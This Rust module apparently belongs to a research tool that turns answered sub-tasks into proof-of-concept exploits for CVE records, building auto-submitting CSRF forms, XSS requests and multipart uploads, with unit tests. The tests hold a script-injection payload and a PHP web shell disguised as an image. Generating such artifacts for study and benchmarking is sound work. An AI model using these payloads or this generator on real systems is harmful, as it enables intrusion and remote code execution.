//! PoC assembly: turn answered sub-tasks into a concrete artifact, classify
//! its body into the six-format taxonomy, and serialize it next to a
//! metadata sidecar.
//!
//! Assembly is a pure function of the answers and the record. The body
//! shape is fixed per class: CWE-352 becomes an auto-submitting HTML form,
//! CWE-434 a proxy-style multipart upload request, and the taint-style
//! classes a proxy-style GET or POST. Parameters are percent-encoded for
//! transport but recorded raw in the sidecar, which is what the validators
//! reason about.

use std::fmt;
use std::path::{Path, PathBuf};

use regex::Regex;
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::corpus::{CveRecord, CweClass, Scenario};
use crate::subtask::{SubTaskResult, SubTaskStatus};

/// Placeholder in a parameter value that receives the attack payload.
pub const PAYLOAD_SLOT: &str = "{{payload}}";
/// Fixed multipart boundary; a constant keeps serialization deterministic.
pub const MULTIPART_BOUNDARY: &str = "----pocforge7a1d3f9c";

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum PocFormat {
    Html,
    PyScript,
    ShellCommand,
    PlainText,
    ProxyRequest,
    PhpScript,
}

impl PocFormat {
    pub fn label(self) -> &'static str {
        match self {
            PocFormat::Html => "html",
            PocFormat::PyScript => "py-script",
            PocFormat::ShellCommand => "shell-command",
            PocFormat::PlainText => "plain-text",
            PocFormat::ProxyRequest => "proxy-request",
            PocFormat::PhpScript => "php-script",
        }
    }

    pub fn parse(s: &str) -> Option<PocFormat> {
        Some(match s {
            "html" => PocFormat::Html,
            "py-script" => PocFormat::PyScript,
            "shell-command" => PocFormat::ShellCommand,
            "plain-text" => PocFormat::PlainText,
            "proxy-request" => PocFormat::ProxyRequest,
            "php-script" => PocFormat::PhpScript,
            _ => return None,
        })
    }

    pub fn extension(self) -> &'static str {
        match self {
            PocFormat::Html => "html",
            PocFormat::PyScript => "py",
            PocFormat::ShellCommand => "sh",
            PocFormat::PlainText => "txt",
            PocFormat::ProxyRequest => "http",
            PocFormat::PhpScript => "php",
        }
    }
}

impl fmt::Display for PocFormat {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct MultipartPart {
    /// Form field name.
    pub name: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub filename: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub content_type: Option<String>,
    pub content: String,
}

/// The HTTP request a PoC realizes. Parameters and multipart contents are
/// raw (unencoded) values.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PocRequest {
    pub url: String,
    pub method: String,
    pub parameters: Vec<(String, String)>,
    pub headers: Vec<(String, String)>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub multipart: Vec<MultipartPart>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Provenance {
    pub record_id: String,
    pub scenario: String,
    /// 1-based trial number.
    pub trial: usize,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PocArtifact {
    pub format: PocFormat,
    pub body: String,
    pub request: Option<PocRequest>,
    pub cwe: String,
    pub provenance: Provenance,
}

#[derive(Debug, Error)]
pub enum AssemblyError {
    #[error("missing required sub-task answer: {id}")]
    MissingSubTask { id: String },
    #[error("request-url answer {value:?} does not parse: {reason}")]
    BadUrl { value: String, reason: String },
    #[error("request URL {url} is not rooted at {base}")]
    UrlOutsideBase { url: String, base: String },
    #[error("cannot write artifact {path}: {source}")]
    Io {
        path: String,
        source: std::io::Error,
    },
}

fn answered<'a>(results: &'a [SubTaskResult], id: &str) -> Option<&'a SubTaskResult> {
    results
        .iter()
        .find(|r| r.id == id && r.status == SubTaskStatus::Answered)
}

fn required_text(results: &[SubTaskResult], id: &str) -> Result<String, AssemblyError> {
    answered(results, id)
        .map(|r| r.answer_text())
        .filter(|t| !t.trim().is_empty())
        .ok_or_else(|| AssemblyError::MissingSubTask { id: id.to_string() })
}

/// Accepts a JSON object, an array of `k=v` strings, or a query string.
/// Object keys arrive sorted; the other shapes keep their given order.
fn parse_params(result: &SubTaskResult) -> Vec<(String, String)> {
    match &result.parsed {
        Some(serde_json::Value::Object(map)) => map
            .iter()
            .map(|(k, v)| {
                let value = match v {
                    serde_json::Value::String(s) => s.clone(),
                    other => other.to_string(),
                };
                (k.clone(), value)
            })
            .collect(),
        Some(serde_json::Value::Array(items)) => items
            .iter()
            .filter_map(|v| v.as_str())
            .map(split_pair)
            .collect(),
        _ => {
            let text = result.answer_text();
            text.split('&')
                .filter(|s| !s.trim().is_empty())
                .map(split_pair)
                .collect()
        }
    }
}

fn split_pair(s: &str) -> (String, String) {
    match s.split_once('=') {
        Some((k, v)) => (k.trim().to_string(), v.trim().to_string()),
        None => (s.trim().to_string(), String::new()),
    }
}

fn percent_encode(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    for byte in value.bytes() {
        match byte {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                out.push(byte as char)
            }
            b' ' => out.push_str("%20"),
            _ => out.push_str(&format!("%{byte:02X}")),
        }
    }
    out
}

fn encode_query(params: &[(String, String)]) -> String {
    params
        .iter()
        .map(|(k, v)| format!("{}={}", percent_encode(k), percent_encode(v)))
        .collect::<Vec<_>>()
        .join("&")
}

fn html_escape(value: &str) -> String {
    value
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// Resolves the request-url answer against the record's origin. Relative
/// answers are joined onto the base; absolute answers must share it.
fn resolve_url(answer: &str, record: &CveRecord) -> Result<url::Url, AssemblyError> {
    let base = url::Url::parse(&record.base_url).map_err(|e| AssemblyError::BadUrl {
        value: record.base_url.clone(),
        reason: e.to_string(),
    })?;
    let resolved = base
        .join(answer.trim())
        .map_err(|e| AssemblyError::BadUrl {
            value: answer.to_string(),
            reason: e.to_string(),
        })?;
    if resolved.origin() != base.origin() {
        return Err(AssemblyError::UrlOutsideBase {
            url: resolved.to_string(),
            base: record.base_url.clone(),
        });
    }
    Ok(resolved)
}

fn host_header(url: &url::Url) -> String {
    let host = url.host_str().unwrap_or("localhost");
    match url.port() {
        Some(port) => format!("{host}:{port}"),
        None => host.to_string(),
    }
}

/// Upload form field name, read out of the `$_FILES['...']` access in the
/// upload-code answer when present.
fn upload_field_name(results: &[SubTaskResult]) -> String {
    let files_access = Regex::new(r#"\$_FILES\s*\[\s*['"]([^'"\]]+)['"]\s*\]"#).unwrap();
    for id in ["upload-code", "processing-parameters"] {
        if let Some(r) = answered(results, id) {
            if let Some(cap) = files_access.captures(&r.answer_text()) {
                return cap[1].to_string();
            }
        }
    }
    "file".to_string()
}

fn proxy_request_body(
    method: &str,
    url: &url::Url,
    headers: &[(String, String)],
    body: &str,
) -> String {
    let mut target = url.path().to_string();
    if let Some(q) = url.query() {
        target.push('?');
        target.push_str(q);
    }
    let mut out = format!("{method} {target} HTTP/1.1\n");
    for (name, value) in headers {
        out.push_str(&format!("{name}: {value}\n"));
    }
    out.push('\n');
    out.push_str(body);
    out
}

/// Builds the artifact for a record from its answered sub-tasks.
///
/// Required answers: request-url, request-method, and request-parameters
/// for every class; attack-payload for the taint-style classes;
/// operation-parameters for CWE-352; file-name, file-content-type, and
/// file-content for CWE-434. The first missing one names itself in the
/// error.
pub fn assemble(
    results: &[SubTaskResult],
    record: &CveRecord,
    scenario: Scenario,
    trial: usize,
) -> Result<PocArtifact, AssemblyError> {
    let cwe = CweClass::parse(&record.cwe).ok_or_else(|| AssemblyError::MissingSubTask {
        id: format!("unknown weakness class {}", record.cwe),
    })?;
    let url_answer = required_text(results, "request-url")?;
    let method = required_text(results, "request-method")?
        .split_whitespace()
        .next()
        .unwrap_or("GET")
        .to_ascii_uppercase();
    let params_result = answered(results, "request-parameters")
        .ok_or_else(|| AssemblyError::MissingSubTask {
            id: "request-parameters".to_string(),
        })?;
    let mut parameters = parse_params(params_result);

    // Taint-style classes must have produced a payload; it fills the
    // placeholder slot, or lands in a `payload` parameter if no slot and no
    // literal occurrence exists in the answers.
    let payload = if cwe.is_taint_style() {
        Some(required_text(results, "attack-payload")?)
    } else {
        answered(results, "attack-payload").map(|r| r.answer_text())
    };
    if let Some(payload) = &payload {
        let mut placed = false;
        for (_, value) in parameters.iter_mut() {
            if value.contains(PAYLOAD_SLOT) {
                *value = value.replace(PAYLOAD_SLOT, payload);
                placed = true;
            } else if value.contains(payload.as_str()) {
                placed = true;
            }
        }
        if !placed {
            parameters.push(("payload".to_string(), payload.clone()));
        }
    }

    if cwe == CweClass::Cwe352 {
        let op_result =
            answered(results, "operation-parameters").ok_or_else(|| AssemblyError::MissingSubTask {
                id: "operation-parameters".to_string(),
            })?;
        for (k, v) in parse_params(op_result) {
            if !parameters.iter().any(|(existing, _)| *existing == k) {
                parameters.push((k, v));
            }
        }
    }

    let mut url = resolve_url(&url_answer, record)?;

    let provenance = Provenance {
        record_id: record.id.clone(),
        scenario: scenario.label().to_string(),
        trial,
    };

    let (body, request) = match cwe {
        CweClass::Cwe352 => {
            let action = html_escape(url.as_str());
            let inputs = parameters
                .iter()
                .map(|(k, v)| {
                    format!(
                        "    <input type=\"hidden\" name=\"{}\" value=\"{}\">\n",
                        html_escape(k),
                        html_escape(v)
                    )
                })
                .collect::<String>();
            let body = format!(
                "<!DOCTYPE html>\n<html>\n  <body onload=\"document.forms[0].submit()\">\n  \
                 <form action=\"{action}\" method=\"{}\">\n{inputs}  </form>\n  </body>\n</html>\n",
                html_escape(&method)
            );
            let request = PocRequest {
                url: url.to_string(),
                method,
                parameters,
                headers: vec![],
                multipart: vec![],
            };
            (body, request)
        }
        CweClass::Cwe434 => {
            let file_name = required_text(results, "file-name")?;
            let content_type = required_text(results, "file-content-type")?;
            let file_content = required_text(results, "file-content")?;
            let mut multipart = vec![MultipartPart {
                name: upload_field_name(results),
                filename: Some(file_name.clone()),
                content_type: Some(content_type.clone()),
                content: file_content.clone(),
            }];
            for (k, v) in &parameters {
                multipart.push(MultipartPart {
                    name: k.clone(),
                    filename: None,
                    content_type: None,
                    content: v.clone(),
                });
            }
            let mut mp_body = String::new();
            for part in &multipart {
                mp_body.push_str(&format!("--{MULTIPART_BOUNDARY}\n"));
                match &part.filename {
                    Some(f) => mp_body.push_str(&format!(
                        "Content-Disposition: form-data; name=\"{}\"; filename=\"{}\"\n",
                        part.name, f
                    )),
                    None => mp_body.push_str(&format!(
                        "Content-Disposition: form-data; name=\"{}\"\n",
                        part.name
                    )),
                }
                if let Some(ct) = &part.content_type {
                    mp_body.push_str(&format!("Content-Type: {ct}\n"));
                }
                mp_body.push('\n');
                mp_body.push_str(&part.content);
                mp_body.push('\n');
            }
            mp_body.push_str(&format!("--{MULTIPART_BOUNDARY}--\n"));
            let headers = vec![
                ("Host".to_string(), host_header(&url)),
                (
                    "Content-Type".to_string(),
                    format!("multipart/form-data; boundary={MULTIPART_BOUNDARY}"),
                ),
            ];
            let body = proxy_request_body(&method, &url, &headers, &mp_body);
            let request = PocRequest {
                url: url.to_string(),
                method,
                parameters,
                headers,
                multipart,
            };
            (body, request)
        }
        _ => {
            let query = encode_query(&parameters);
            let (headers, http_body) = if method == "GET" {
                if !query.is_empty() {
                    url.set_query(Some(&query));
                }
                (vec![("Host".to_string(), host_header(&url))], String::new())
            } else {
                (
                    vec![
                        ("Host".to_string(), host_header(&url)),
                        (
                            "Content-Type".to_string(),
                            "application/x-www-form-urlencoded".to_string(),
                        ),
                    ],
                    query,
                )
            };
            let body = proxy_request_body(&method, &url, &headers, &http_body);
            let request = PocRequest {
                url: url.to_string(),
                method,
                parameters,
                headers,
                multipart: vec![],
            };
            (body, request)
        }
    };

    let format = classify_format(&body);
    Ok(PocArtifact {
        format,
        body,
        request: Some(request),
        cwe: cwe.label().to_string(),
        provenance,
    })
}

#[derive(Debug, Deserialize)]
struct FormatRuleFile {
    #[allow(dead_code)]
    version: u32,
    #[serde(rename = "rule")]
    rules: Vec<FormatRule>,
}

#[derive(Debug, Deserialize)]
struct FormatRule {
    format: String,
    #[serde(rename = "where")]
    scope: String,
    pattern: String,
}

const BUILTIN_RULES: &str = include_str!("../data/format_rules.toml");

/// Classifies a body into exactly one format. The rules live in
/// `data/format_rules.toml`, ordered; plain-text is the fallback, so every
/// nonempty body gets a class.
pub fn classify_format(body: &str) -> PocFormat {
    let file: FormatRuleFile =
        toml::from_str(BUILTIN_RULES).expect("built-in format rules are well-formed");
    let first_line = body.lines().find(|l| !l.trim().is_empty()).unwrap_or("");
    let start = body.trim_start();
    for rule in &file.rules {
        let re = Regex::new(&rule.pattern).expect("built-in format rule pattern compiles");
        let subject = match rule.scope.as_str() {
            "first-line" => first_line,
            "start" => start,
            _ => body,
        };
        if re.is_match(subject) {
            return PocFormat::parse(&rule.format).expect("built-in format rule names a format");
        }
    }
    PocFormat::PlainText
}

/// Writes the artifact body plus a `.meta.json` sidecar into `out_dir`,
/// named `{record}_{scenario}_{trial}`. Returns the body file path.
pub fn serialize(artifact: &PocArtifact, out_dir: &Path) -> Result<PathBuf, AssemblyError> {
    let io = |path: &Path| {
        let path = path.display().to_string();
        move |source: std::io::Error| AssemblyError::Io {
            path: path.clone(),
            source,
        }
    };
    std::fs::create_dir_all(out_dir).map_err(io(out_dir))?;
    let stem = format!(
        "{}_{}_{}",
        artifact.provenance.record_id,
        artifact.provenance.scenario.to_ascii_lowercase(),
        artifact.provenance.trial
    );
    let body_path = out_dir.join(format!("{stem}.{}", artifact.format.extension()));
    std::fs::write(&body_path, &artifact.body).map_err(io(&body_path))?;
    let meta_path = out_dir.join(format!("{stem}.meta.json"));
    let meta = serde_json::json!({
        "record": artifact.provenance.record_id,
        "scenario": artifact.provenance.scenario,
        "trial": artifact.provenance.trial,
        "cwe": artifact.cwe,
        "format": artifact.format.label(),
        "request": artifact.request,
    });
    let mut text = serde_json::to_string_pretty(&meta).expect("metadata serializes");
    text.push('\n');
    std::fs::write(&meta_path, text).map_err(io(&meta_path))?;
    Ok(body_path)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::subtask::{decompose, parse_results};

    fn record(cwe: &str) -> CveRecord {
        CveRecord {
            id: "rec".into(),
            cwe: cwe.into(),
            cvss: 6.1,
            description: "d".into(),
            patch: String::new(),
            files: vec![],
            base_url: "http://books.example".into(),
            entry_url: "http://books.example/search.php".into(),
            ground_truth_poc: None,
            semantic_sinks: None,
        }
    }

    fn results(cwe: CweClass, json: &str) -> Vec<SubTaskResult> {
        parse_results(&decompose(cwe), json)
    }

    const FIG4_ANSWERS: &str = r#"{
        "sink": "echo", "vulnerable-variable": "search", "source": "$_GET['search']",
        "data-flow-constraints": "quotes removed", "control-flow-constraints": "search nonempty",
        "syntax-constraints": "html-attr-single-quoted",
        "attack-payload": "question'><script>alert(1)</script>",
        "file-navigation-chain": "search.php -> search_results.php",
        "file-navigation-code": "include", "path-constraint-code": "mode check",
        "path-constraint-variables-values": "mode=search",
        "request-parameters": {"mode": "search", "search": "{{payload}}"},
        "request-method": "GET", "request-url": "/search.php"
    }"#;

    #[test]
    fn taint_results_become_a_proxy_get_with_encoded_payload() {
        let artifact = assemble(
            &results(CweClass::Cwe79, FIG4_ANSWERS),
            &record("CWE-79"),
            Scenario::S2,
            1,
        )
        .unwrap();
        assert_eq!(artifact.format, PocFormat::ProxyRequest);
        let request = artifact.request.as_ref().unwrap();
        assert_eq!(request.method, "GET");
        assert_eq!(
            request.parameters,
            vec![
                ("mode".to_string(), "search".to_string()),
                (
                    "search".to_string(),
                    "question'><script>alert(1)</script>".to_string()
                ),
            ]
        );
        // Transport form is percent-encoded; raw payload lives in request.
        let first_line = artifact.body.lines().next().unwrap();
        assert_eq!(
            first_line,
            "GET /search.php?mode=search&search=question%27%3E%3Cscript%3Ealert%281%29%3C%2Fscript%3E HTTP/1.1"
        );
        assert!(artifact.body.contains("Host: books.example"));
        assert!(request.url.starts_with("http://books.example/search.php"));
    }

    #[test]
    fn assembly_is_deterministic() {
        let a = assemble(
            &results(CweClass::Cwe79, FIG4_ANSWERS),
            &record("CWE-79"),
            Scenario::S2,
            1,
        )
        .unwrap();
        let b = assemble(
            &results(CweClass::Cwe79, FIG4_ANSWERS),
            &record("CWE-79"),
            Scenario::S2,
            1,
        )
        .unwrap();
        assert_eq!(a, b);
    }

    #[test]
    fn missing_request_method_names_itself() {
        let json = FIG4_ANSWERS.replace(r#""request-method": "GET","#, r#""request-method": null,"#);
        let err = assemble(
            &results(CweClass::Cwe79, &json),
            &record("CWE-79"),
            Scenario::S2,
            1,
        )
        .unwrap_err();
        assert!(matches!(
            err,
            AssemblyError::MissingSubTask { ref id } if id == "request-method"
        ));
    }

    #[test]
    fn csrf_results_become_an_auto_submitting_form() {
        let json = r#"{
            "protection-mechanisms": "none", "execution-code": "clear_stats()",
            "operation-parameters": {"action": "clear-statistics"},
            "bypass-techniques": "no token present",
            "file-navigation-chain": "admin.php", "file-navigation-code": "direct",
            "path-constraint-code": "none", "path-constraint-variables-values": "none",
            "request-parameters": {"action": "clear-statistics"},
            "request-method": "POST", "request-url": "/admin.php"
        }"#;
        let artifact = assemble(
            &results(CweClass::Cwe352, json),
            &record("CWE-352"),
            Scenario::S1,
            2,
        )
        .unwrap();
        assert_eq!(artifact.format, PocFormat::Html);
        assert!(artifact.body.contains("onload=\"document.forms[0].submit()\""));
        assert!(artifact
            .body
            .contains("<input type=\"hidden\" name=\"action\" value=\"clear-statistics\">"));
        assert!(artifact.body.contains("action=\"http://books.example/admin.php\""));
        assert!(artifact.body.contains("method=\"POST\""));
    }

    #[test]
    fn upload_results_become_a_multipart_request() {
        let json = r#"{
            "validation-mechanism": "extension blacklist", "bypass-techniques": "use .phtml",
            "file-name": "shell.phtml", "file-content-type": "image/png",
            "file-content": "<?php system($_GET['c']); ?>",
            "upload-code": "move_uploaded_file($_FILES['userfile']['tmp_name'], $dest)",
            "processing-parameters": "submit=1",
            "storage-path-code": "uploads/", "storage-location": "uploads/shell.phtml",
            "access-method": "GET /uploads/shell.phtml",
            "file-navigation-chain": "upload.php", "file-navigation-code": "direct",
            "path-constraint-code": "none", "path-constraint-variables-values": "none",
            "request-parameters": {"submit": "1"},
            "request-method": "POST", "request-url": "/upload.php"
        }"#;
        let artifact = assemble(
            &results(CweClass::Cwe434, json),
            &record("CWE-434"),
            Scenario::S3,
            3,
        )
        .unwrap();
        assert_eq!(artifact.format, PocFormat::ProxyRequest);
        let request = artifact.request.as_ref().unwrap();
        let file_part = &request.multipart[0];
        assert_eq!(file_part.name, "userfile");
        assert_eq!(file_part.filename.as_deref(), Some("shell.phtml"));
        assert_eq!(file_part.content_type.as_deref(), Some("image/png"));
        assert!(file_part.content.contains("system($_GET['c'])"));
        assert!(artifact
            .body
            .contains(&format!("Content-Type: multipart/form-data; boundary={MULTIPART_BOUNDARY}")));
        assert!(artifact.body.contains("filename=\"shell.phtml\""));
    }

    #[test]
    fn absolute_url_outside_the_origin_is_rejected() {
        let json = FIG4_ANSWERS.replace("/search.php", "http://evil.example/search.php");
        let err = assemble(
            &results(CweClass::Cwe79, &json),
            &record("CWE-79"),
            Scenario::S2,
            1,
        )
        .unwrap_err();
        assert!(matches!(err, AssemblyError::UrlOutsideBase { .. }));
    }

    #[test]
    fn classification_rules_partition_the_taxonomy() {
        assert_eq!(
            classify_format("POST /search.php HTTP/1.1\nHost: x\n\n"),
            PocFormat::ProxyRequest
        );
        assert_eq!(
            classify_format("<?php system($_GET['c']); ?>"),
            PocFormat::PhpScript
        );
        assert_eq!(
            classify_format("<!DOCTYPE html>\n<html><form action=\"/x\"></form></html>"),
            PocFormat::Html
        );
        assert_eq!(
            classify_format("import requests\nrequests.get('http://x')"),
            PocFormat::PyScript
        );
        assert_eq!(
            classify_format("curl -s 'http://x/?a=b'"),
            PocFormat::ShellCommand
        );
        assert_eq!(
            classify_format("#!/bin/bash\ncurl http://x"),
            PocFormat::ShellCommand
        );
        assert_eq!(
            classify_format("Navigate to the search page and submit a quote."),
            PocFormat::PlainText
        );
    }

    #[test]
    fn serialization_writes_body_and_sidecar_with_stable_names() {
        let dir = tempfile::tempdir().unwrap();
        let artifact = assemble(
            &results(CweClass::Cwe79, FIG4_ANSWERS),
            &record("CWE-79"),
            Scenario::S2,
            1,
        )
        .unwrap();
        let path = serialize(&artifact, dir.path()).unwrap();
        assert_eq!(path.file_name().unwrap().to_str().unwrap(), "rec_s2_1.http");
        let meta_path = dir.path().join("rec_s2_1.meta.json");
        let meta: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&meta_path).unwrap()).unwrap();
        assert_eq!(meta["format"], "proxy-request");
        // Sidecar keeps the raw payload, not the transport encoding.
        assert_eq!(
            meta["request"]["parameters"][1][1],
            "question'><script>alert(1)</script>"
        );

        let again = serialize(&artifact, dir.path()).unwrap();
        assert_eq!(
            std::fs::read(&path).unwrap(),
            std::fs::read(&again).unwrap()
        );
    }
}
